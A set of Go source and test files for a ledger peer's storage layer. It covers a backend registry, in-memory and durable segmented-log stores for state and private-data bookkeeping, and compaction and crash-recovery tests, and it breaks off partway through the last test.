func (s *memPvtStore) sortedPurges() []PurgeEntry {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]PurgeEntry, 0, len(s.purges))
	for e := range s.purges {
		out = append(out, e)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].At != out[j].At {
			return out[i].At < out[j].At
		}
		if out[i].Namespace != out[j].Namespace {
			return out[i].Namespace < out[j].Namespace
		}
		return out[i].Key < out[j].Key
	})
	return out
}

func (s *memPvtStore) RecordMissing(e MissingEntry) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.missing[e] = true
	return nil
}

func (s *memPvtStore) ResolveMissing(e MissingEntry) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	delete(s.missing, e)
	return nil
}

func (s *memPvtStore) LoadMissing(fn func(e MissingEntry) error) error {
	s.mu.Lock()
	out := make([]MissingEntry, 0, len(s.missing))
	for e := range s.missing {
		out = append(out, e)
	}
	s.mu.Unlock()
	sort.Slice(out, func(i, j int) bool {
		if out[i].TxID != out[j].TxID {
			return out[i].TxID < out[j].TxID
		}
		return out[i].Collection < out[j].Collection
	})
	for _, e := range out {
		if err := fn(e); err != nil {
			return err
		}
	}
	return nil
}

func (s *memPvtStore) Close() error { return nil }
