package storage

import (
	"fmt"
	"sort"
	"sync"
)

// Options parameterizes a backend. Backends ignore the fields they have
// no use for (the memory backend ignores everything).
type Options struct {
	// Dir is the backend's root directory (durable backends only). Each
	// peer gets its own directory; the durable backend lays out
	// Dir/blocks, Dir/state and Dir/pvt under it.
	Dir string
	// SegmentBytes caps the active segment size before it is sealed and
	// a new one opened. 0 selects the backend default (4 MiB).
	SegmentBytes int64
	// CompactGarbageRatio triggers compaction of the sealed-segment
	// prefix when the fraction of superseded bytes exceeds it. 0 selects
	// the backend default (0.5); negative disables automatic compaction
	// (Compact can still be called explicitly).
	CompactGarbageRatio float64
	// NoFsync skips fsync on appends — the process-crash-only durability
	// mode, for benchmarks that want to isolate write-path cost from
	// disk sync cost. Never use it for data that must survive power
	// loss.
	NoFsync bool
	// NoBackgroundCompaction disables the compactor goroutine; tests
	// drive Compact explicitly for determinism.
	NoBackgroundCompaction bool
}

// Factory builds a backend from options.
type Factory func(opts Options) (Backend, error)

var (
	registryMu sync.RWMutex
	registry   = make(map[string]Factory)
)

// Register makes a backend constructable by name through Open.
// Registering a duplicate name panics (a wiring bug, like
// database/sql.Register).
func Register(name string, f Factory) {
	registryMu.Lock()
	defer registryMu.Unlock()
	if _, dup := registry[name]; dup {
		panic(fmt.Sprintf("storage: Register called twice for backend %q", name))
	}
	registry[name] = f
}

// Backends returns the registered backend names, sorted.
func Backends() []string {
	registryMu.RLock()
	defer registryMu.RUnlock()
	out := make([]string, 0, len(registry))
	for name := range registry {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}

// Open constructs the named backend. The "durable" backend lives in
// internal/storage/durable and registers itself on import; callers that
// want it must import that package (the peer does).
func Open(name string, opts Options) (Backend, error) {
	registryMu.RLock()
	f, ok := registry[name]
	registryMu.RUnlock()
	if !ok {
		return nil, fmt.Errorf("%w: %q (registered: %v)", ErrUnknownBackend, name, Backends())
	}
	b, err := f(opts)
	if err != nil {
		return nil, fmt.Errorf("storage: open %q: %w", name, err)
	}
	return b, nil
}

func init() {
	Register("memory", func(Options) (Backend, error) { return NewMemory(), nil })
	Register("null", func(Options) (Backend, error) { return NewNull(), nil })
}
