package storage

import (
	"errors"
	"testing"

	"repro/internal/ledger"
)

func TestOpenUnknownBackend(t *testing.T) {
	if _, err := Open("no-such-backend", Options{}); !errors.Is(err, ErrUnknownBackend) {
		t.Fatalf("Open unknown: got %v, want ErrUnknownBackend", err)
	}
}

func TestRegisteredBackends(t *testing.T) {
	names := Backends()
	for _, want := range []string{"memory", "null"} {
		found := false
		for _, n := range names {
			if n == want {
				found = true
			}
		}
		if !found {
			t.Fatalf("backend %q not registered (have %v)", want, names)
		}
	}
}

func TestMemoryBlockStore(t *testing.T) {
	b, err := Open("memory", Options{})
	if err != nil {
		t.Fatal(err)
	}
	blocks := b.Blocks()
	b0 := ledger.NewBlock(0, nil, nil)
	b1 := ledger.NewBlock(1, b0.Hash(), nil)
	if err := blocks.Append(b0); err != nil {
		t.Fatal(err)
	}
	if err := blocks.Append(b1); err != nil {
		t.Fatal(err)
	}
	if err := blocks.Append(b1); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("out-of-order append: got %v, want ErrCorrupt", err)
	}
	if h := blocks.Height(); h != 2 {
		t.Fatalf("height = %d, want 2", h)
	}
	got, err := blocks.ReadAll()
	if err != nil || len(got) != 2 {
		t.Fatalf("ReadAll = %d blocks, err %v", len(got), err)
	}
}

func TestMemoryStateStoreLatestWins(t *testing.T) {
	b, _ := Open("memory", Options{})
	st := b.State()
	if err := st.Apply(StateBatch{Height: 1, Records: []StateRecord{
		{Namespace: "ns", Key: "a", Value: []byte("v1"), Version: 1},
		{Namespace: "ns", Key: "b", Value: []byte("w1"), Version: 1},
	}}); err != nil {
		t.Fatal(err)
	}
	if err := st.Apply(StateBatch{Height: 2, Records: []StateRecord{
		{Namespace: "ns", Key: "a", Value: []byte("v2"), Version: 2},
		{Namespace: "ns", Key: "b", Version: 1, Delete: true},
	}}); err != nil {
		t.Fatal(err)
	}
	if w := st.Watermark(); w != 2 {
		t.Fatalf("watermark = %d, want 2", w)
	}
	var batches []StateBatch
	if err := st.Load(func(b StateBatch) error { batches = append(batches, b); return nil }); err != nil {
		t.Fatal(err)
	}
	if len(batches) != 1 {
		t.Fatalf("Load emitted %d batches, want 1", len(batches))
	}
	got := batches[0]
	if got.Height != 2 || len(got.Records) != 2 {
		t.Fatalf("Load batch = height %d, %d records", got.Height, len(got.Records))
	}
	if got.Records[0].Key != "a" || string(got.Records[0].Value) != "v2" || got.Records[0].Version != 2 {
		t.Fatalf("record a = %+v", got.Records[0])
	}
	if got.Records[1].Key != "b" || !got.Records[1].Delete || got.Records[1].Version != 1 {
		t.Fatalf("record b should be the version-1 tombstone, got %+v", got.Records[1])
	}
}

func TestMemoryPvtStore(t *testing.T) {
	b, _ := Open("memory", Options{})
	pvt := b.Pvt()
	for _, e := range []PurgeEntry{
		{At: 10, Namespace: "ns", Key: "k1"},
		{At: 5, Namespace: "ns", Key: "k2"},
		{At: 20, Namespace: "ns", Key: "k3"},
	} {
		if err := pvt.SchedulePurge(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := pvt.CompletePurge(10); err != nil {
		t.Fatal(err)
	}
	var purges []PurgeEntry
	if err := pvt.LoadPurges(func(e PurgeEntry) error { purges = append(purges, e); return nil }); err != nil {
		t.Fatal(err)
	}
	if len(purges) != 1 || purges[0].At != 20 {
		t.Fatalf("pending purges = %+v, want only At=20", purges)
	}

	m := MissingEntry{TxID: "tx1", Collection: "coll"}
	if err := pvt.RecordMissing(m); err != nil {
		t.Fatal(err)
	}
	if err := pvt.RecordMissing(m); err != nil { // idempotent
		t.Fatal(err)
	}
	var missing []MissingEntry
	pvt.LoadMissing(func(e MissingEntry) error { missing = append(missing, e); return nil })
	if len(missing) != 1 {
		t.Fatalf("missing = %+v, want 1 entry", missing)
	}
	if err := pvt.ResolveMissing(m); err != nil {
		t.Fatal(err)
	}
	missing = nil
	pvt.LoadMissing(func(e MissingEntry) error { missing = append(missing, e); return nil })
	if len(missing) != 0 {
		t.Fatalf("missing after resolve = %+v, want none", missing)
	}
}

func TestNullBackendDiscards(t *testing.T) {
	b, err := Open("null", Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := b.State().Apply(StateBatch{Height: 9, Records: []StateRecord{{Namespace: "n", Key: "k"}}}); err != nil {
		t.Fatal(err)
	}
	if w := b.State().Watermark(); w != 0 {
		t.Fatalf("null watermark = %d, want 0", w)
	}
	called := false
	b.State().Load(func(StateBatch) error { called = true; return nil })
	if called {
		t.Fatal("null Load should replay nothing")
	}
}
