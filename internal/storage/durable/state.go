package durable

import (
	"encoding/binary"
	"fmt"
	"sort"
	"sync"

	"repro/internal/storage"
)

// recStateBatch is the only record type on the state log: one complete
// StateBatch per record, so batch atomicity falls out of record framing
// (a torn batch fails its CRC and is truncated as a tail).
const recStateBatch byte = 0x01

// compactBatchRecords caps the records per merged batch emitted by
// compaction, bounding record size in the merged segment.
const compactBatchRecords = 4096

// recMeta is the index entry for one key: just enough to decide, during
// compaction, whether a sealed record is still the latest for its key.
// A (Version, Delete) pair identifies a record: versions are pinned by
// the validator and strictly grow per key, with a put and the tombstone
// deleting it sharing a version but differing in the flag.
type recMeta struct {
	version uint64
	delete  bool
	size    int64
}

// stateStore is the durable StateStore: a write-behind segmented log of
// StateBatch records with an in-memory latest-per-key index driving
// compaction. Values live only on disk; RAM cost is O(keys), not
// O(values) or O(history).
type stateStore struct {
	l *log

	mu        sync.Mutex
	latest    map[string]recMeta // ns\x00key -> latest record meta
	watermark uint64
	garbage   int64 // bytes of superseded records, approximate
	total     int64 // bytes of record payloads appended, approximate

	compactRatio float64
	notify       chan struct{}
	done         chan struct{}
	wg           sync.WaitGroup
}

func stateKey(ns, key string) string { return ns + "\x00" + key }

func openState(dir string, opts storage.Options) (*stateStore, error) {
	s := &stateStore{
		latest:       make(map[string]recMeta),
		compactRatio: opts.CompactGarbageRatio,
		notify:       make(chan struct{}, 1),
		done:         make(chan struct{}),
	}
	if s.compactRatio == 0 {
		s.compactRatio = DefaultCompactGarbageRatio
	}
	l, err := openLog(dir, opts.SegmentBytes, !opts.NoFsync, func(recType byte, payload []byte) error {
		if recType != recStateBatch {
			return fmt.Errorf("%w: unknown state record type 0x%02x", storage.ErrCorrupt, recType)
		}
		batch, err := decodeBatch(payload)
		if err != nil {
			return err
		}
		s.index(batch)
		return nil
	})
	if err != nil {
		return nil, err
	}
	s.l = l
	if !opts.NoBackgroundCompaction && s.compactRatio > 0 {
		s.wg.Add(1)
		go s.compactLoop()
	}
	return s, nil
}

// index folds a batch into the latest-per-key index and the garbage
// accounting. Caller must not hold s.mu.
func (s *stateStore) index(batch storage.StateBatch) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, r := range batch.Records {
		k := stateKey(r.Namespace, r.Key)
		size := recordSize(r)
		if old, ok := s.latest[k]; ok {
			s.garbage += old.size
		}
		s.latest[k] = recMeta{version: r.Version, delete: r.Delete, size: size}
		s.total += size
	}
	if batch.Height > s.watermark {
		s.watermark = batch.Height
	}
}

func recordSize(r storage.StateRecord) int64 {
	return int64(len(r.Namespace) + len(r.Key) + len(r.Value) + 16)
}

func (s *stateStore) Apply(batch storage.StateBatch) error {
	if err := s.l.append(recStateBatch, encodeBatch(batch)); err != nil {
		return err
	}
	s.index(batch)
	select {
	case s.notify <- struct{}{}:
	default:
	}
	return nil
}

// Load replays every durable batch in commit order. Per the StateStore
// contract it runs once on a freshly opened store, before any Apply, so
// the segment files are static underneath it.
func (s *stateStore) Load(fn func(batch storage.StateBatch) error) error {
	return s.l.replayAll(func(recType byte, payload []byte) error {
		if recType != recStateBatch {
			return fmt.Errorf("%w: unknown state record type 0x%02x", storage.ErrCorrupt, recType)
		}
		batch, err := decodeBatch(payload)
		if err != nil {
			return err
		}
		return fn(batch)
	})
}

func (s *stateStore) Watermark() uint64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.watermark
}

// Compact merges the sealed-segment prefix of the log, keeping for each
// key only its latest record (including the newest tombstone of a dead
// key — dropping it would lose version continuity across a restart).
// Records superseded by a record in the active segment are dropped:
// correctness does not depend on the index being stable during the
// merge, because a stale record that slips through lands in a segment
// that replays before the active one and is overridden (docs/STORAGE.md
// §5).
func (s *stateStore) Compact() error {
	err := s.l.compact(func(replay func(fn func(recType byte, payload []byte) error) error, emit func(recType byte, payload []byte) error) error {
		prefix := make(map[string]storage.StateRecord)
		var maxHeight uint64
		err := replay(func(recType byte, payload []byte) error {
			if recType != recStateBatch {
				return fmt.Errorf("%w: unknown state record type 0x%02x", storage.ErrCorrupt, recType)
			}
			batch, err := decodeBatch(payload)
			if err != nil {
				return err
			}
			if batch.Height > maxHeight {
				maxHeight = batch.Height
			}
			for _, r := range batch.Records {
				prefix[stateKey(r.Namespace, r.Key)] = r
			}
			return nil
		})
		if err != nil {
			return err
		}

		keys := make([]string, 0, len(prefix))
		for k := range prefix {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		s.mu.Lock()
		survivors := keys[:0]
		for _, k := range keys {
			cand := prefix[k]
			if m, ok := s.latest[k]; ok && m.version == cand.Version && m.delete == cand.Delete {
				survivors = append(survivors, k)
			}
		}
		s.mu.Unlock()

		// Chunked re-emission at the prefix's high-water height; an empty
		// merge still emits one batch so the watermark survives compaction
		// even when the active segment carries no batches yet.
		batch := storage.StateBatch{Height: maxHeight}
		flush := func() error {
			payload := encodeBatch(batch)
			batch.Records = batch.Records[:0]
			return emit(recStateBatch, payload)
		}
		for _, k := range survivors {
			batch.Records = append(batch.Records, prefix[k])
			if len(batch.Records) == compactBatchRecords {
				if err := flush(); err != nil {
					return err
				}
			}
		}
		if len(batch.Records) > 0 || len(survivors) == 0 {
			return flush()
		}
		return nil
	})
	if err != nil {
		return err
	}
	// Reset the garbage estimate: the merged prefix now holds exactly one
	// record per surviving key. Garbage within the active segment is
	// undercounted until it seals — the trigger is a heuristic, not an
	// exact measure.
	s.mu.Lock()
	var live int64
	for _, m := range s.latest {
		live += m.size
	}
	s.garbage = 0
	s.total = live
	s.mu.Unlock()
	return nil
}

// shouldCompact implements the automatic trigger: at least one sealed
// segment, and more than compactRatio of the appended bytes superseded.
func (s *stateStore) shouldCompact() bool {
	sealed, sealedBytes := s.l.sealedSnapshot()
	if len(sealed) == 0 || sealedBytes == 0 {
		return false
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.total > 0 && float64(s.garbage)/float64(s.total) > s.compactRatio
}

func (s *stateStore) compactLoop() {
	defer s.wg.Done()
	for {
		select {
		case <-s.done:
			return
		case <-s.notify:
			if s.shouldCompact() {
				// Best effort: a failed background compaction leaves the
				// log exactly as it was; the next Apply retriggers.
				_ = s.Compact()
			}
		}
	}
}

func (s *stateStore) Close() error {
	select {
	case <-s.done:
	default:
		close(s.done)
	}
	s.wg.Wait()
	return s.l.close()
}

// Batch payload encoding (docs/STORAGE.md §3): uvarint height, uvarint
// record count, then per record: len-prefixed namespace, len-prefixed
// key, uvarint version, one flag byte (bit0 = delete), len-prefixed
// value.

func encodeBatch(b storage.StateBatch) []byte {
	buf := binary.AppendUvarint(nil, b.Height)
	buf = binary.AppendUvarint(buf, uint64(len(b.Records)))
	for _, r := range b.Records {
		buf = appendLenPrefixed(buf, []byte(r.Namespace))
		buf = appendLenPrefixed(buf, []byte(r.Key))
		buf = binary.AppendUvarint(buf, r.Version)
		var flags byte
		if r.Delete {
			flags = 1
		}
		buf = append(buf, flags)
		buf = appendLenPrefixed(buf, r.Value)
	}
	return buf
}

func decodeBatch(payload []byte) (storage.StateBatch, error) {
	d := decoder{buf: payload}
	var b storage.StateBatch
	b.Height = d.uvarint()
	n := d.uvarint()
	if n > uint64(len(payload)) { // each record takes >= 1 byte
		return b, fmt.Errorf("%w: state batch claims %d records in %d bytes", storage.ErrCorrupt, n, len(payload))
	}
	b.Records = make([]storage.StateRecord, 0, n)
	for i := uint64(0); i < n; i++ {
		var r storage.StateRecord
		r.Namespace = string(d.lenPrefixed())
		r.Key = string(d.lenPrefixed())
		r.Version = d.uvarint()
		r.Delete = d.byte()&1 != 0
		r.Value = append([]byte(nil), d.lenPrefixed()...)
		b.Records = append(b.Records, r)
	}
	if d.err != nil {
		return storage.StateBatch{}, fmt.Errorf("%w: state batch: %v", storage.ErrCorrupt, d.err)
	}
	return b, nil
}

func appendLenPrefixed(buf, b []byte) []byte {
	buf = binary.AppendUvarint(buf, uint64(len(b)))
	return append(buf, b...)
}

// decoder is a cursor over a record payload with sticky error handling:
// after the first malformed field every further read yields zero values
// and the caller checks err once at the end.
type decoder struct {
	buf []byte
	err error
}

func (d *decoder) uvarint() uint64 {
	if d.err != nil {
		return 0
	}
	v, n := binary.Uvarint(d.buf)
	if n <= 0 {
		d.err = fmt.Errorf("bad uvarint")
		return 0
	}
	d.buf = d.buf[n:]
	return v
}

func (d *decoder) byte() byte {
	if d.err != nil {
		return 0
	}
	if len(d.buf) == 0 {
		d.err = fmt.Errorf("short payload")
		return 0
	}
	b := d.buf[0]
	d.buf = d.buf[1:]
	return b
}

func (d *decoder) lenPrefixed() []byte {
	n := d.uvarint()
	if d.err != nil {
		return nil
	}
	if n > uint64(len(d.buf)) {
		d.err = fmt.Errorf("length %d exceeds remaining %d", n, len(d.buf))
		return nil
	}
	b := d.buf[:n]
	d.buf = d.buf[n:]
	return b
}
