package durable

import (
	"encoding/binary"
	"fmt"
	"sort"
	"sync"

	"repro/internal/storage"
)

// Record types on the pvt log (docs/STORAGE.md §4). The log is a
// set-mutation journal: schedule/record add an entry, complete/resolve
// remove it, and replaying the log in order reconstructs the pending
// sets exactly.
const (
	recPurgeSchedule byte = 0x01
	recPurgeComplete byte = 0x02
	recMissing       byte = 0x03
	recMissingDone   byte = 0x04
)

// pvtCompactDeadRecords triggers a rewrite of the pvt log once this many
// appended records no longer contribute to the pending sets.
const pvtCompactDeadRecords = 1024

// pvtStore is the durable PvtStore: the BlockToLive purge queue and the
// missing-private-data records, kept in memory as sets and journaled to
// a segmented log. Entries are tiny, so compaction simply re-emits the
// live sets from memory instead of re-reading segments.
type pvtStore struct {
	l *log

	mu       sync.Mutex
	purges   map[storage.PurgeEntry]bool
	missing  map[storage.MissingEntry]bool
	appended int64 // records appended since the last compaction
}

func openPvt(dir string, opts storage.Options) (*pvtStore, error) {
	s := &pvtStore{
		purges:  make(map[storage.PurgeEntry]bool),
		missing: make(map[storage.MissingEntry]bool),
	}
	l, err := openLog(dir, opts.SegmentBytes, !opts.NoFsync, s.replayRecord)
	if err != nil {
		return nil, err
	}
	s.l = l
	return s, nil
}

func (s *pvtStore) replayRecord(recType byte, payload []byte) error {
	d := decoder{buf: payload}
	switch recType {
	case recPurgeSchedule:
		e := storage.PurgeEntry{At: d.uvarint(), Namespace: string(d.lenPrefixed()), Key: string(d.lenPrefixed())}
		if d.err == nil {
			s.purges[e] = true
		}
	case recPurgeComplete:
		upTo := d.uvarint()
		if d.err == nil {
			for e := range s.purges {
				if e.At <= upTo {
					delete(s.purges, e)
				}
			}
		}
	case recMissing:
		e := storage.MissingEntry{TxID: string(d.lenPrefixed()), Collection: string(d.lenPrefixed())}
		if d.err == nil {
			s.missing[e] = true
		}
	case recMissingDone:
		e := storage.MissingEntry{TxID: string(d.lenPrefixed()), Collection: string(d.lenPrefixed())}
		if d.err == nil {
			delete(s.missing, e)
		}
	default:
		return fmt.Errorf("%w: unknown pvt record type 0x%02x", storage.ErrCorrupt, recType)
	}
	if d.err != nil {
		return fmt.Errorf("%w: pvt record 0x%02x: %v", storage.ErrCorrupt, recType, d.err)
	}
	return nil
}

func encodePurge(e storage.PurgeEntry) []byte {
	buf := binary.AppendUvarint(nil, e.At)
	buf = appendLenPrefixed(buf, []byte(e.Namespace))
	return appendLenPrefixed(buf, []byte(e.Key))
}

func encodeMissing(e storage.MissingEntry) []byte {
	buf := appendLenPrefixed(nil, []byte(e.TxID))
	return appendLenPrefixed(buf, []byte(e.Collection))
}

func (s *pvtStore) SchedulePurge(e storage.PurgeEntry) error {
	s.mu.Lock()
	dup := s.purges[e]
	s.mu.Unlock()
	if dup {
		return nil
	}
	if err := s.l.append(recPurgeSchedule, encodePurge(e)); err != nil {
		return err
	}
	s.mu.Lock()
	s.purges[e] = true
	s.appended++
	s.mu.Unlock()
	return nil
}

func (s *pvtStore) CompletePurge(upTo uint64) error {
	if err := s.l.append(recPurgeComplete, binary.AppendUvarint(nil, upTo)); err != nil {
		return err
	}
	s.mu.Lock()
	for e := range s.purges {
		if e.At <= upTo {
			delete(s.purges, e)
		}
	}
	s.appended++
	s.mu.Unlock()
	return s.maybeCompact()
}

func (s *pvtStore) LoadPurges(fn func(e storage.PurgeEntry) error) error {
	s.mu.Lock()
	out := make([]storage.PurgeEntry, 0, len(s.purges))
	for e := range s.purges {
		out = append(out, e)
	}
	s.mu.Unlock()
	sort.Slice(out, func(i, j int) bool {
		if out[i].At != out[j].At {
			return out[i].At < out[j].At
		}
		if out[i].Namespace != out[j].Namespace {
			return out[i].Namespace < out[j].Namespace
		}
		return out[i].Key < out[j].Key
	})
	for _, e := range out {
		if err := fn(e); err != nil {
			return err
		}
	}
	return nil
}

func (s *pvtStore) RecordMissing(e storage.MissingEntry) error {
	s.mu.Lock()
	dup := s.missing[e]
	s.mu.Unlock()
	if dup {
		return nil // idempotent: repeated gossip discoveries don't grow the log
	}
	if err := s.l.append(recMissing, encodeMissing(e)); err != nil {
		return err
	}
	s.mu.Lock()
	s.missing[e] = true
	s.appended++
	s.mu.Unlock()
	return nil
}

func (s *pvtStore) ResolveMissing(e storage.MissingEntry) error {
	s.mu.Lock()
	known := s.missing[e]
	s.mu.Unlock()
	if !known {
		return nil
	}
	if err := s.l.append(recMissingDone, encodeMissing(e)); err != nil {
		return err
	}
	s.mu.Lock()
	delete(s.missing, e)
	s.appended++
	s.mu.Unlock()
	return s.maybeCompact()
}

func (s *pvtStore) LoadMissing(fn func(e storage.MissingEntry) error) error {
	s.mu.Lock()
	out := make([]storage.MissingEntry, 0, len(s.missing))
	for e := range s.missing {
		out = append(out, e)
	}
	s.mu.Unlock()
	sort.Slice(out, func(i, j int) bool {
		if out[i].TxID != out[j].TxID {
			return out[i].TxID < out[j].TxID
		}
		return out[i].Collection < out[j].Collection
	})
	for _, e := range out {
		if err := fn(e); err != nil {
			return err
		}
	}
	return nil
}

// maybeCompact rewrites the sealed prefix once enough dead records have
// accumulated. The merged segment is just the live sets re-journaled;
// entries whose schedule record sits in the active segment may be
// emitted too, which is harmless — replaying a set insert twice is a
// no-op (docs/STORAGE.md §5).
func (s *pvtStore) maybeCompact() error {
	s.mu.Lock()
	dead := s.appended - int64(len(s.purges)) - int64(len(s.missing))
	s.mu.Unlock()
	if dead < pvtCompactDeadRecords {
		return nil
	}
	if sealed, _ := s.l.sealedSnapshot(); len(sealed) == 0 {
		return nil
	}
	return s.compact()
}

func (s *pvtStore) compact() error {
	err := s.l.compact(func(_ func(fn func(recType byte, payload []byte) error) error, emit func(recType byte, payload []byte) error) error {
		s.mu.Lock()
		purges := make([]storage.PurgeEntry, 0, len(s.purges))
		for e := range s.purges {
			purges = append(purges, e)
		}
		missing := make([]storage.MissingEntry, 0, len(s.missing))
		for e := range s.missing {
			missing = append(missing, e)
		}
		s.mu.Unlock()
		sort.Slice(purges, func(i, j int) bool {
			if purges[i].At != purges[j].At {
				return purges[i].At < purges[j].At
			}
			if purges[i].Namespace != purges[j].Namespace {
				return purges[i].Namespace < purges[j].Namespace
			}
			return purges[i].Key < purges[j].Key
		})
		sort.Slice(missing, func(i, j int) bool {
			if missing[i].TxID != missing[j].TxID {
				return missing[i].TxID < missing[j].TxID
			}
			return missing[i].Collection < missing[j].Collection
		})
		for _, e := range purges {
			if err := emit(recPurgeSchedule, encodePurge(e)); err != nil {
				return err
			}
		}
		for _, e := range missing {
			if err := emit(recMissing, encodeMissing(e)); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		return err
	}
	s.mu.Lock()
	s.appended = int64(len(s.purges)) + int64(len(s.missing))
	s.mu.Unlock()
	return nil
}

func (s *pvtStore) Close() error { return s.l.close() }
