package durable

import (
	"errors"
	"fmt"
	"path/filepath"

	"repro/internal/blockfile"
	"repro/internal/storage"
)

func init() {
	storage.Register("durable", func(opts storage.Options) (storage.Backend, error) {
		return Open(opts)
	})
}

// Backend is the durable storage backend of one peer. Its directory
// layout (docs/STORAGE.md §1):
//
//	<dir>/blocks/blocks.bin   block file (internal/blockfile)
//	<dir>/state/seg-*.log     state batch log
//	<dir>/pvt/seg-*.log       private-data bookkeeping log
type Backend struct {
	dir    string
	blocks *blockfile.Store
	state  *stateStore
	pvt    *pvtStore
}

var _ storage.Backend = (*Backend)(nil)

// Open opens (or creates) a durable backend rooted at opts.Dir, running
// crash recovery on each store: torn tails are truncated, leftover
// compaction temporaries discarded, and the in-memory indexes rebuilt
// by replay.
func Open(opts storage.Options) (*Backend, error) {
	if opts.Dir == "" {
		return nil, fmt.Errorf("durable backend requires a directory (storage dir not configured)")
	}
	blocks, err := blockfile.Open(filepath.Join(opts.Dir, "blocks"))
	if err != nil {
		return nil, fmt.Errorf("durable: blocks: %w", err)
	}
	state, err := openState(filepath.Join(opts.Dir, "state"), opts)
	if err != nil {
		blocks.Close()
		return nil, fmt.Errorf("durable: state: %w", err)
	}
	pvt, err := openPvt(filepath.Join(opts.Dir, "pvt"), opts)
	if err != nil {
		blocks.Close()
		state.Close()
		return nil, fmt.Errorf("durable: pvt: %w", err)
	}
	return &Backend{dir: opts.Dir, blocks: blocks, state: state, pvt: pvt}, nil
}

func (b *Backend) Name() string               { return "durable" }
func (b *Backend) Dir() string                { return b.dir }
func (b *Backend) Blocks() storage.BlockStore { return b.blocks }
func (b *Backend) State() storage.StateStore  { return b.state }
func (b *Backend) Pvt() storage.PvtStore      { return b.pvt }

// Close stops the background compactor and releases every store.
func (b *Backend) Close() error {
	var errs []error
	if err := b.state.Close(); err != nil {
		errs = append(errs, err)
	}
	if err := b.pvt.Close(); err != nil {
		errs = append(errs, err)
	}
	if err := b.blocks.Close(); err != nil {
		errs = append(errs, err)
	}
	return errors.Join(errs...)
}

// InjectStateFailure makes every subsequent state-batch append fail
// with err, sticky, without touching the files — the crash-recovery
// tests' stand-in for the process dying between the block and state
// durability points.
func (b *Backend) InjectStateFailure(err error) { b.state.l.failWrites(err) }

// InjectBlockFailure is the block-side analogue of InjectStateFailure.
func (b *Backend) InjectBlockFailure(err error) { b.blocks.FailWrites(err) }
