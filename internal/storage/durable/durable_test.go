package durable

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"testing"

	"repro/internal/ledger"
	"repro/internal/storage"
)

func openTest(t *testing.T, dir string, opts storage.Options) *Backend {
	t.Helper()
	opts.Dir = dir
	opts.NoBackgroundCompaction = true
	b, err := Open(opts)
	if err != nil {
		t.Fatalf("open durable backend: %v", err)
	}
	return b
}

// loadAll folds every durable batch into latest-per-key form, the way
// recovery sees the state.
func loadAll(t *testing.T, st storage.StateStore) map[string]storage.StateRecord {
	t.Helper()
	latest := make(map[string]storage.StateRecord)
	if err := st.Load(func(b storage.StateBatch) error {
		for _, r := range b.Records {
			latest[r.Namespace+"/"+r.Key] = r
		}
		return nil
	}); err != nil {
		t.Fatalf("Load: %v", err)
	}
	return latest
}

func TestDurableStateRoundTrip(t *testing.T) {
	dir := t.TempDir()
	b := openTest(t, dir, storage.Options{})
	st := b.State()
	for h := uint64(1); h <= 10; h++ {
		batch := storage.StateBatch{Height: h}
		for i := 0; i < 5; i++ {
			batch.Records = append(batch.Records, storage.StateRecord{
				Namespace: "ns",
				Key:       fmt.Sprintf("key-%d", i),
				Value:     []byte(fmt.Sprintf("val-%d-%d", h, i)),
				Version:   h,
			})
		}
		if err := st.Apply(batch); err != nil {
			t.Fatal(err)
		}
	}
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}

	b2 := openTest(t, dir, storage.Options{})
	defer b2.Close()
	if w := b2.State().Watermark(); w != 10 {
		t.Fatalf("watermark after reopen = %d, want 10", w)
	}
	latest := loadAll(t, b2.State())
	if len(latest) != 5 {
		t.Fatalf("reopened state has %d keys, want 5", len(latest))
	}
	for i := 0; i < 5; i++ {
		r := latest[fmt.Sprintf("ns/key-%d", i)]
		if string(r.Value) != fmt.Sprintf("val-10-%d", i) || r.Version != 10 {
			t.Fatalf("key-%d = %+v, want final write", i, r)
		}
	}
}

func TestDurableEmptyBatchAdvancesWatermark(t *testing.T) {
	dir := t.TempDir()
	b := openTest(t, dir, storage.Options{})
	if err := b.State().Apply(storage.StateBatch{Height: 7}); err != nil {
		t.Fatal(err)
	}
	b.Close()
	b2 := openTest(t, dir, storage.Options{})
	defer b2.Close()
	if w := b2.State().Watermark(); w != 7 {
		t.Fatalf("watermark = %d, want 7 from empty batch", w)
	}
}

func TestDurableConcurrentAppliesGroupCommit(t *testing.T) {
	dir := t.TempDir()
	b := openTest(t, dir, storage.Options{})
	const writers, each = 8, 25
	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < each; i++ {
				err := b.State().Apply(storage.StateBatch{
					Height: 1,
					Records: []storage.StateRecord{{
						Namespace: "ns",
						Key:       fmt.Sprintf("w%d-k%d", w, i),
						Value:     []byte("v"),
						Version:   1,
					}},
				})
				if err != nil {
					t.Error(err)
					return
				}
			}
		}(w)
	}
	wg.Wait()
	b.Close()

	b2 := openTest(t, dir, storage.Options{})
	defer b2.Close()
	if latest := loadAll(t, b2.State()); len(latest) != writers*each {
		t.Fatalf("recovered %d keys, want %d", len(latest), writers*each)
	}
}

func TestDurableSegmentRolling(t *testing.T) {
	dir := t.TempDir()
	b := openTest(t, dir, storage.Options{SegmentBytes: 512})
	for h := uint64(1); h <= 50; h++ {
		err := b.State().Apply(storage.StateBatch{Height: h, Records: []storage.StateRecord{
			{Namespace: "ns", Key: fmt.Sprintf("k%d", h), Value: make([]byte, 64), Version: h},
		}})
		if err != nil {
			t.Fatal(err)
		}
	}
	b.Close()

	segs, _ := filepath.Glob(filepath.Join(dir, "state", "seg-*.log"))
	if len(segs) < 3 {
		t.Fatalf("expected several segments, got %d", len(segs))
	}
	b2 := openTest(t, dir, storage.Options{SegmentBytes: 512})
	defer b2.Close()
	if w := b2.State().Watermark(); w != 50 {
		t.Fatalf("watermark = %d, want 50", w)
	}
